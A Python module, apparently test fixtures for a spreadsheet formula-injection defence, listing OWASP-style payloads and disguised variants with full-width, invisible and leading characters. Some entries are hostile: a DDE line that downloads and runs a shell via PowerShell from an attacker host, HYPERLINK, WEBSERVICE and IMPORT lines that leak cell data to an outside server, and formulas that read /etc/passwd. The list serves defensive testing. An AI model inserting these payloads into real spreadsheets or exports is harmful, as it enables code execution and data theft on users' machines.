"""Texts that spreadsheets could act on, as published by OWASP and others, and our own disguises of them."""

from __future__ import annotations

BARE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    '=HYPERLINK("http://example.com?leak="&A1&A2,"Error: please click")',
    '=HYPERLINK("file:///etc/passwd","x")',
    '=WEBSERVICE("http://example.com/"&A1)',
    '=IMPORTXML(CONCAT("http://example.com/123.txt?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTFEED(CONCAT("http://example.com//123.txt?v=",CONCATENATE(A2:E2)))',
    '=IMPORTHTML(CONCAT("http://example.com/123.txt?v=",CONCATENATE(A2:E2)),"table",1)',
    '=IMPORTRANGE("https://example.com/sheet","Sheet1!A2:E2")',
    '=IMAGE("https://example.com/"&INDIRECT("A1"))',
    "='file:///etc/passwd'#$passwd.A1",
    "=CONCATENATE(('file:///etc/passwd'#$passwd.A1),('file:///etc/passwd'#$passwd.A2))",
    '=INDIRECT("A1")',
    '=FILTERXML("<a/>","//a")',
    '=EXEC("calc.exe")',
    '=CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","calc","","",5)',
    '=REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","X")',
    "=A1:A9",
    "={1,2,3}",
    "=NOW()",
    "=SUM(1,1)",
    "@A1",
    "@cmd|'/c calc'!A1",
    '+HYPERLINK("http://example.com")',
    '-HYPERLINK("http://example.com")',
    "+49",
    "-x",
    "=",
]  # fmt: skip
WIDE = [
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "＝cmd|' /C calc'!A0",
    "﹦1+1",
    "﹢1",
    "﹣1+1",
    "﹫A1",
    "−1+cmd|' /C calc'!A0",
]
SPACES = ["\t", "\r", "\n", "\r\n", " ", "   ", "\u00a0", "\u3000"]
UNSEEN = ["\u200b", "\ufeff", "\u2060", "\u200e", "\u202e", "\u00ad", "\x00", "\x0b", "\x1b", "\x7f"]
BEFORE = [*SPACES, *UNSEEN, '"', "'\"", "“", ' \t\u200b"']
DISGUISED = [f"{before}=cmd|' /C calc'!A0" for before in BEFORE]
WITHIN = ["x;=cmd|' /C calc'!A0", "x\n=1+1", "x\r\n@SUM(1)", "x\t+1+1", 'x; "=1+1', "x;-1+1|cmd", "x\n＝1+1"]
PAYLOADS = [*BARE, *WIDE, *DISGUISED, *WITHIN]
